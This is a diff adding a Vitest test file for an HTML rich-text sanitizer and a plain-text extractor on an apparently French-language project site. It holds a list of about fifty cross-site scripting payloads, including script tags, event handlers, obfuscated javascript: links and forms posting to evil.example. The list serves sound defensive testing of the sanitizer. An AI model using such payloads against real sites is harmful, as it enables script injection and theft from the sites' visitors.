@@ -1,0 +1,147 @@
+import { describe, expect, test } from "vitest";
+import { plainText, sanitizeRichText } from "./rich-text.ts";
+
+/** What must never run, however it is written. */
+const NASTY = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=x onerror=alert(1)>",
+  '<img src="/public/a.webp" onerror="alert(1)" onload=alert(1) style="width:1px">',
+  "<img src='https://evil.example/pixel.gif'>",
+  '<img src="/public/../api/v01/auth/logout">',
+  '<img src="//evil.example/public/a.webp">',
+  '<img srcset="https://evil.example/a.webp 1x" src="/public/a.webp">',
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href=" &#106;&#97;vascript&#58;alert(1)">a</a>',
+  '<a href="jav&#x09;ascript:alert(1)">a</a>',
+  '<a href="java\u0000script:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
+  '<a href="vbscript:msgbox(1)">a</a>',
+  '<a href="//evil.example">a</a>',
+  '<a href="/\\evil.example">a</a>',
+  '<a href="/\t/evil.example">a</a>',
+  '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="color:red">a</a>',
+  '<svg onload=alert(1)><circle r="1"/></svg>',
+  "<svg><script>alert(1)</script></svg>",
+  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
+  '<math><mtext></p><style><img src=x onerror="alert(1)"></style></mtext></math>',
+  "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+  "<style>body{background:url(//evil.example)}</style>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+  "<template><script>alert(1)</script></template>",
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"><p>a</p></iframe>',
+  "<object data='x.swf'></object><embed src='x.swf'>",
+  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">ok</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/a.css">',
+  '<p style="position:fixed;inset:0" class="dialog" id="main" data-x="1">a</p>',
+  '<table background="javascript:alert(1)"><tr><td style="x:expression(alert(1))" colspan="9999999">a</td></tr></table>',
+  '<video src=x onerror=alert(1)><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  '<details open ontoggle="alert(1)">a</details><body onload=alert(1)>',
+  "<!--<img src='--><img src=x onerror=alert(1)//'>",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?php echo '<script>alert(1)</script>'; ?>",
+  "<p <script>alert(1)</script>>a</p>",
+  '<p title="</p><script>alert(1)</script>">a</p>',
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
+  "<a href='https://ok.example/\"onmouseover=\"alert(1)'>a</a>",
+  "<textarea><img src=x onerror=alert(1)></textarea>",
+  "<title><img src=x onerror=alert(1)></title>",
+  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
+  "<img src=x onerror=alert(1)",
+  "<",
+  "<<<>>>",
+  "</p></div></script>",
+] as const;
+
+/** Texts made of pieces of nasty ones, the same in every run. */
+function mixed(count: number): string[] {
+  let state = 20_261_121;
+  const next = (below: number) => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
+    return state % below;
+  };
+  return Array.from({ length: count }, () =>
+    Array.from({ length: 2 + next(5) }, () => {
+      const text = NASTY[next(NASTY.length)] ?? "";
+      const start = next(text.length);
+      return text.slice(start, start + 1 + next(40));
+    }).join(""),
+  );
+}
+
+const TAG = /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g;
+const KNOWN = new Set(
+  "p h2 h3 h4 blockquote ul ol li hr br strong em u s a figure figcaption img table caption thead tbody tfoot tr th td".split(
+    " ",
+  ),
+);
+
+/** Whatever remains is a known tag with known attributes, and nothing that could be taken for another. */
+function expectHarmless(html: string): void {
+  for (const [, tag = "", attributes = ""] of html.matchAll(TAG)) {
+    expect(KNOWN.has(tag), `${tag} in ${html}`).toBe(true);
+    for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
+      if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:|\/(?![/\\\t]))/);
+      else if (name === "src") expect(value).toMatch(/^\/public\/[\w./-]+$/);
+      else expect(["rel", "alt", "width", "height", "colspan", "rowspan", "scope"]).toContain(name);
+    }
+  }
+  expect(html.replace(TAG, "")).not.toMatch(/[<>]/);
+}
+
+describe("an article's HTML", () => {
+  test.each(NASTY)("loses what could run: %j", (html) => {
+    expectHarmless(sanitizeRichText(html));
+  });
+
+  test("loses what could run from any mixture, and is not changed by doing it again", () => {
+    for (const html of [...NASTY, ...mixed(2_000)]) {
+      const once = sanitizeRichText(html);
+      expectHarmless(once);
+      expect(sanitizeRichText(once)).toBe(once);
+    }
+  });
+
+  test("keeps what an article is made of", () => {
+    const article =
+      "<h2>Le chantier</h2><p>Un <strong>puits</strong>, <em>enfin</em> : <u>6</u> <s>7</s> mois.<br />Merci.</p>" +
+      "<blockquote><p>« Voilà »</p></blockquote><ul><li>un</li></ul><ol><li>deux</li></ol><hr />" +
+      '<figure><img src="/public/pictures/ab12/puits-1200x750.webp" alt="Le puits" width="1200" height="750" /><figcaption>Le puits</figcaption></figure>' +
+      '<table><caption>Coûts</caption><thead><tr><th scope="col">Poste</th></tr></thead><tbody><tr><td colspan="2">Pompe</td></tr></tbody></table>';
+    expect(sanitizeRichText(article)).toBe(article);
+  });
+
+  test("says where its links lead: to this site, elsewhere, to a mail or a telephone", () => {
+    expect(sanitizeRichText('<a href="/dons/forage-kouto">a</a>')).toBe('<a href="/dons/forage-kouto">a</a>');
+    expect(sanitizeRichText('<a href="https://exemple.ci/?a=1&b=2">a</a>')).toBe(
+      '<a href="https://exemple.ci/?a=1&amp;b=2" rel="external noopener noreferrer">a</a>',
+    );
+    expect(sanitizeRichText('<a href="tel:+2250700000000">a</a>')).toContain('href="tel:+2250700000000"');
+    expect(sanitizeRichText('<a href="ftp://exemple.ci">texte</a>')).toBe("texte");
+  });
+
+  test("has one way to write each thing", () => {
+    expect(sanitizeRichText("<h1>a</h1><p><b>b</b> <i>c</i> <del>d</del></p>")).toBe(
+      "<h2>a</h2><p><strong>b</strong> <em>c</em> <s>d</s></p>",
+    );
+  });
+});
+
+describe("the text of an article", () => {
+  test("has no markup and no entity, and words of different blocks stay apart", () => {
+    expect(
+      plainText("<h2>Un</h2><p>d<em>eu</em>x&nbsp;: A &amp; B &lt; C</p><ul><li>trois</li><li>quatre</li></ul>", 99),
+    ).toBe("Un deux\u00a0: A & B < C trois quatre");
+  });
+
+  test("is cut between two words, with an ellipsis", () => {
+    expect(plainText("<p>Le village a de l’eau, enfin.</p>", 22)).toBe("Le village a de l’eau…");
+    expect(plainText("<p>court</p>", 22)).toBe("court");
+    expect(plainText(`<p>${"a".repeat(50)}</p>`, 10)).toBe(`${"a".repeat(10)}…`);
+  });
+});
